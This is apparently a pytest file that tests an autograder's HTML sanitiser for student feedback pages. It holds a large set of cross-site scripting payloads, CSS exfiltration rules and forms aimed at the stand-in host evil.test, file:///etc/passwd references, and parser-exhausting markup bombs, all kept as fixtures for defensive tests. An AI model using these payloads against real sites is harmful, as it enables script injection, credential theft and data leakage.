"""Can a feedback page be opened without anything of a learner's running, loading or covering it?"""

from __future__ import annotations

import json
import re
import time
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from nbconvert.exporters import HTMLExporter
from nbgrader.converters.base import NbGraderException
from nbgrader.server_extensions.formgrader import handlers
from traitlets.config import Config

from autograder.marking.classroom.errors import NoSuchThing
from autograder.marking.classroom.folder import Classroom
from autograder.marking.gradebook.book import open_book
from autograder.marking.grading.release import Release
from autograder.marking.grading.restore import restore, to_notebook
from autograder.marking.grading.results import Result
from autograder.marking.grading.submission import parse
from autograder.marking.reports import feedback
from autograder.marking.reports.feedback import write_feedback
from autograder.marking.reports.sanitise import FILTERS, clean_html, markdown_to_html
from autograder.marking.sandbox.session import _FORMS, _output
from tests.conftest import ASSIGNMENT
from tests.marking.submissions import as_bytes, fill_in, own

ALERT = "alert(document.domain)"
MARKUP = {
    "a script": f"<script>{ALERT}</script>",
    "a script in capitals": f"<SCRIPT SRC=//evil.test/x.js></SCRIPT><ScRiPt>{ALERT}</sCrIpT>",
    "a script that ends the page's": f"</script><script>{ALERT}</script>",
    "a script after a text": f"</title></style></textarea></pre></div><script>{ALERT}</script>",
    "an event": f"<img src=x onerror={ALERT}><body onload={ALERT}><div onclick={ALERT}>x</div>",
    "an event in a picture": f'<svg onload="{ALERT}"><animate onbegin="{ALERT}"/></svg>',
    "a script in a picture": f"<svg><script>{ALERT}</script></svg>",
    "a link that runs": f'<a href="javascript:{ALERT}">x</a><a href=" jAvA\tscript:{ALERT}">y</a>',
    "a link to data": f'<a href="data:text/html,<script>{ALERT}</script>">x</a>',
    "a frame": f'<iframe src="//evil.test"></iframe><iframe srcdoc="<script>{ALERT}</script>">',
    "an object": '<object data="//evil.test"></object><embed src="//evil.test"><applet code=x>',
    "a form": '<form action="//evil.test"><input name=password autofocus><button>Go</button></form>',
    "a base": '<base href="//evil.test/"><link rel=stylesheet href="//evil.test/x.css">',
    "a redirection": '<meta http-equiv="refresh" content="0;url=//evil.test">',
    "a style": "<style>@import '//evil.test/x.css'; body{background:url(//evil.test)}</style>",
    "a style that loads": '<p style="background:url(//evil.test/x.png)">x</p>',
    "a style that covers": '<div style="position:fixed;top:0;left:0;z-index:9">Your mark: 16</div>',
    "a picture from elsewhere": '<img src="//evil.test/x.png"><img srcset="//evil.test/y.png 2x">',
    "a video": '<video src="//evil.test" poster="//evil.test"></video><audio src="//evil.test">',
    "a template": f"<template><script>{ALERT}</script></template><noscript><p title='</noscript>"
    f"<img src=x onerror={ALERT}>'>",
    "mathematics": f'<math><mtext><table><mglyph><style><img src=x onerror="{ALERT}">',
    "a half tag": f"<img src=x onerror={ALERT}",
    "a comment": f"<!--><img src=x onerror={ALERT}>--><!--[if IE]><script>{ALERT}</script>",
    "a closing quote": f'"><img src=x onerror={ALERT}><x y="',
    "a link in other letters": f'<a href="java&#115;cript&colon;{ALERT}">x</a><a href="&#1;javascript:{ALERT}">',
    "a picture of markup": f'<img src="data:image/svg+xml,<svg onload={ALERT}>"><img src="data:text/html,x">',
    "a reference in a picture": f'<svg><use href="//evil.test/x.svg#a"/><a xlink:href="javascript:{ALERT}">x',
    "a link in mathematics": f'<math href="javascript:{ALERT}"><mi>x</mi></math>',
    "an event of a list": f"<details open ontoggle={ALERT}><summary onfocus={ALERT} tabindex=1>x",
    "an event that moves": f"<marquee onstart={ALERT}>x</marquee><p style='animation:x' onanimationend={ALERT}>",
    "styles that spy": "<style>input[value^=a]{background:url(//evil.test/a)}</style>"
    "<p style='content:url(//evil.test)'>",
    "a style with a rule in it": "<p style=\"color:red;}body{background:url('//evil.test')}\">x</p>",
    "a style that runs": f"<p style='width:expression({ALERT})'><p style='-moz-binding:url(//evil.test)'>",
    "what is fetched ahead": "<link rel=prefetch href=//evil.test><link rel=dns-prefetch href=//evil.test>",
    "mathematics that runs": f"$\\href{{javascript:{ALERT}}}{{x}}$ $\\require{{html}}\\style{{position:fixed}}{{x}}$",
    "the course's files": '<img src="../../../gradebook.db"><img src="file:///etc/passwd">',
}


class _Page(HTMLParser):
    """What in a page could run, load or cover."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.bad: list[str] = []
        self._inside = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag
        for name, value in attrs:
            value = value or ""
            plain = re.sub(r"[\s\0]", "", value).lower()
            if name.startswith("on") or plain.startswith(("javascript:", "vbscript:")):
                self.bad.append(f"{tag} {name}={value}")
            if "evil.test" in value and not (tag == "a" and name == "href"):
                self.bad.append(f"{tag} {name}={value}")
            if name in ("srcdoc", "autofocus") or ("position" in value and name == "style"):
                self.bad.append(f"{tag} {name}={value}")
            if name == "src" and ("gradebook" in value or "passwd" in value):
                self.bad.append(f"{tag} {name}={value}")
        if tag in ("iframe", "object", "embed", "form", "base", "applet", "video", "audio"):
            self.bad.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside in ("script", "style") and (ALERT in data or "evil.test" in data):
            self.bad.append(f"{self._inside}: {data[:80]}")


@pytest.mark.parametrize("name", MARKUP)
def test_cleaned_markup_does_nothing(name):
    """Is each way of running, loading or covering something taken out of HTML?"""
    assert _Page(clean_html(MARKUP[name])).bad == []


def test_the_page_is_looked_at_closely_enough():
    """Does this test see what is bad in the same markup before it is cleaned?"""
    seen = {name for name, text in MARKUP.items() if _Page(text).bad}
    # The rest is bad only to a browser, which mends what it reads, or in a page around it.
    assert MARKUP.keys() - seen <= {
        "a half tag",
        "a closing quote",
        "a redirection",
        "a comment",
        "a link to data",
        "a template",
        "a style",
        "a script in capitals",
        "mathematics",
        "mathematics that runs",  # which only MathJax understands
        "a style that runs",
        "styles that spy",
        "a picture of markup",
        "a link in other letters",
    }


BOMBS = {
    "nested": "<div>" * 200_000,
    "nested and badly closed": "<div></x>" * 200_000,
    "bold": "<p><b>" * 100_000,
    "tables": "<table><tr><td>" * 50_000,
    "rows": "<table>" + "<tr><td>" * 100_000,
    "paragraphs": "<p>" * 300_000,
    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">",
    "long": "x" * 20_000_000,
}


@pytest.mark.parametrize("name", BOMBS)
def test_markup_that_takes_long_is_not_shown(name):
    """Is a text refused at once that would take minutes of the processor to clean?"""
    start = time.process_time()
    assert "too large or too deeply nested" in clean_html(BOMBS[name])
    assert time.process_time() - start < 10


def test_much_that_is_harmless_is_shown():
    """Are a long table and a page of paragraphs kept?"""
    table = f"<table>{'<tr><td>1</td><td>2</td></tr>' * 2000}</table>{'<p>a<li>b' * 500}"
    assert clean_html(table).count("<td>") == 4000


@pytest.mark.parametrize("piece", ["[", "![](", "\\begin{a}", "> ", "- ", "*a ", "$$", "|a", "-\n"])
def test_text_that_takes_long_is_shown_as_it_is(piece):
    """Is a very long markdown text not rendered, and a long one in a reasonable time?"""
    start = time.process_time()
    markdown_to_html({}, piece * (20_000 // len(piece)))
    assert "<pre>" in markdown_to_html({}, piece * 2_000_000)
    assert time.process_time() - start < 20


def _outputs(text: str) -> list[dict[str, Any]]:
    """Return outputs of every kind that carry this text, as a hostile session may send them."""
    forms = (
        *("text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "image/png"),
        *("image/jpeg", "application/javascript", "application/json", "application/pdf"),
        *("text/x-unknown", "application/vnd.jupyter.widget-view+json", "text/vnd.mermaid"),
    )
    data = [
        {"output_type": kind, "metadata": {}, "data": {form: text}}
        | ({"execution_count": None} if kind == "execute_result" else {})
        for form in forms
        for kind in ("display_data", "execute_result")
    ]
    streams = [
        {"output_type": "stream", "name": name, "text": f"\x1b[31m{text}\x1b]8;;{text}\x07"}
        for name in ("stdout", "stderr")
    ]
    error = {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]}
    return [*data, *streams, error]


@pytest.fixture(scope="module")
def page(root: Path, released: dict[str, Any], tmp_path_factory: pytest.TempPathFactory) -> str:
    """A feedback page of a submission that tries all of it, in every place there is."""
    klass = tmp_path_factory.mktemp("class")
    (klass / "secret.txt").write_text("SECRET MARKS")
    marked = _hostile(released)
    folder = klass / "autograded" / "mallory" / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / f"{ASSIGNMENT}.ipynb").write_text(json.dumps(marked), encoding="utf-8")
    classroom = Classroom(root, klass)
    with open_book(classroom) as book:
        book.add_assignment(ASSIGNMENT)
        (klass / "submitted" / "mallory" / ASSIGNMENT).mkdir(parents=True)
        book.record([Result("mallory", ASSIGNMENT)])
    (path,) = write_feedback(classroom, ASSIGNMENT, ["mallory"])
    return path.read_text(encoding="utf-8")


def _hostile(released: dict[str, Any]) -> dict[str, Any]:
    """Return a marked notebook with all of it, as outputs and as text."""
    notebook = fill_in(released)
    for text in MARKUP.values():
        notebook["cells"] += [own(text), own(text, "markdown"), own(text, "raw")]
    notebook["cells"] += [
        own(f"![x](../../../../secret.txt) [x](javascript:{ALERT}) <javascript:{ALERT}>"),
        own(f"![x](../../../../secret.txt) [x](javascript:{ALERT})", "markdown"),
        own(f"$$\\href{{javascript:{ALERT}}}{{x}}$$ `</code><script>{ALERT}</script>`", "markdown"),
        own(
            f"```html\n</pre><script>{ALERT}</script>\n```\n# </h1><script>{ALERT}</script>",
            "markdown",
        ),
    ]
    cells, _ = parse(as_bytes(notebook), "x.ipynb")
    release = Release(released)
    parts, _ = restore(release, tuple(cells))
    everything = [_output(output) for text in MARKUP.values() for output in _outputs(text)]
    outputs = [everything if part.name == "setup" else [] for part in parts]
    return to_notebook(release, parts, outputs)


def test_only_what_a_page_can_show_is_kept():
    """Are widgets, scripts and forms that nobody knows left out of a marked notebook?"""
    kept = {form for output in map(_output, _outputs("eA==")) for form in output.get("data", {})}
    assert kept == set(_FORMS)
    assert not any("javascript" in form or "widget" in form for form in kept)


@pytest.mark.parametrize("picture", ['x" onerror="alert(1)', "<svg>", "javascript:", "data:,"])
def test_a_picture_is_base_64_and_nothing_else(picture):
    """Is a picture dropped whose data would end the attribute that they stand in?"""
    output = {"output_type": "display_data", "metadata": {}, "data": {"image/png": picture}}
    assert "image/png" not in _output(output)["data"]


def test_one_page_that_fails_stops_no_other(root, released, tmp_path, monkeypatch):
    """Are all other pages written, and the one named that could not be?"""
    classroom = Classroom(root, tmp_path)
    wrote = []

    def write(_course: Classroom, _assignment: str, learner: str) -> None:
        if learner == "b":
            raise NbGraderException("broken")
        wrote.append(learner)

    monkeypatch.setattr(feedback, "_write", write)
    for learner in "abc":
        path = tmp_path / "autograded" / learner / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        path.parent.mkdir(parents=True)
        path.write_text("{}")
    with pytest.raises(NoSuchThing, match="feedback for b could not"):
        list(write_feedback(classroom, ASSIGNMENT, ["a", "b", "c", "d"]))
    assert wrote == ["a", "c"]


def test_nothing_of_the_learners_runs_in_the_page(page):
    """Does a page with all of it, as outputs and as text, run and load nothing of the learner's?"""
    assert _Page(page).bad == []


def test_the_pages_scripts_are_nbgraders_own(page, root, released, tmp_path):
    """Does no script in the page hold a word of the learner's?"""
    for script in re.findall(r"<script\b.*?</script\s*>", page, re.DOTALL | re.IGNORECASE):
        assert "alert(" not in script
        assert "evil" not in script


def test_no_file_of_the_course_gets_into_the_page(page):
    """Does a picture that points at a file leave the file's content out?"""
    assert "SECRET MARKS" not in page
    assert "U0VDUkVUIE1BUktT" not in page  # the same in base 64


def test_mathematics_is_shown_by_the_safe_mathjax(page):
    """Does the page load MathJax with its filter for links and styles, and no other?"""
    (script,) = re.findall(r'src="([^"]*mathjax[^"]*)"', page)
    assert script.endswith(",Safe")


def test_the_formgrader_shows_nothing_that_runs(root, released, tmp_path):
    """Is the page clean that an instructor opens, with all rights, to mark by hand?"""
    classroom = Classroom(root, tmp_path)
    config = Config(classroom.config)  # as nbgrader's FormgradeExtension adds to it
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    path = tmp_path / f"{ASSIGNMENT}.ipynb"
    path.write_text(json.dumps(_hostile(released)), encoding="utf-8")
    names = ("assignment_id", "notebook_id", "submission_id", "base_url", "student", "keyword")
    resources = dict.fromkeys(names, "x") | {
        "index": 0,
        "total": 1,
        "last_name": "",
        "first_name": "",
    }
    html, _ = HTMLExporter(config=config).from_filename(str(path), resources=resources)
    assert {bad for bad in _Page(html).bad if "toggle_name" not in bad} == set()  # nbgrader's own
    assert "sigmoid" in html


def test_nbgrader_uses_the_same_filters(root):
    """Does the configuration name the filters that feedback uses?"""
    config = Classroom(root, root).config
    assert config.HTMLExporter.filters == FILTERS
    assert config.HTMLExporter.sanitize_html is True
